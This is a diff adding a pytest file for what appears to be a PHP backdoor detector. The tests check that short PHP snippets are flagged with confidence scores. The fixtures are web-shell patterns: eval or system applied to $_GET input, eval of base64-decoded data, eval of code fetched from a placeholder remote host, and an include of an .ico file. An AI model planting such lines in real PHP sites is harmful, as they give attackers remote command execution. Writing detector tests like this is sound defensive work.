@@ -1,0 +1,32 @@
+from __future__ import annotations
+
+import pytest
+
+from pratique.content.php.program import Program
+from pratique.content.php.sinks import runs
+from pratique.content.php.syntax import parse
+
+
+def sightings(source: str) -> list[tuple[str, float]]:
+    program = Program(parse(f"<?php {source}".encode()))
+    return [(sighting.mark, sighting.confidence) for sighting in runs(program)]
+
+
+@pytest.mark.parametrize(
+    ("source", "expected"),
+    [
+        ("eval($_GET['a']);", ("php-runs-request", 0.97)),
+        ("system($_GET['a']);", ("php-runs-request", 0.97)),
+        ("system('ls ' . $_GET['a']);", ("php-runs-request", 0.85)),
+        ("if (in_array($_GET['a'], $x)) { $_GET['a'](); }", ("php-runs-request", 0.55)),
+        ("eval(base64_decode('AAAA'));", ("php-runs-decoded", 0.92)),
+        ("eval(file_get_contents('http://b.example'));", ("php-runs-remote", 0.9)),
+        ("include 'a.ico';", ("php-hidden-include", 0.85)),
+    ],
+)
+def test_says_how_sure_it_is(source, expected):
+    assert sightings(source) == [expected]
+
+
+def test_a_function_of_the_file_is_not_that_of_php():
+    assert sightings("function exec($x) {} exec($_GET['a']);") == []
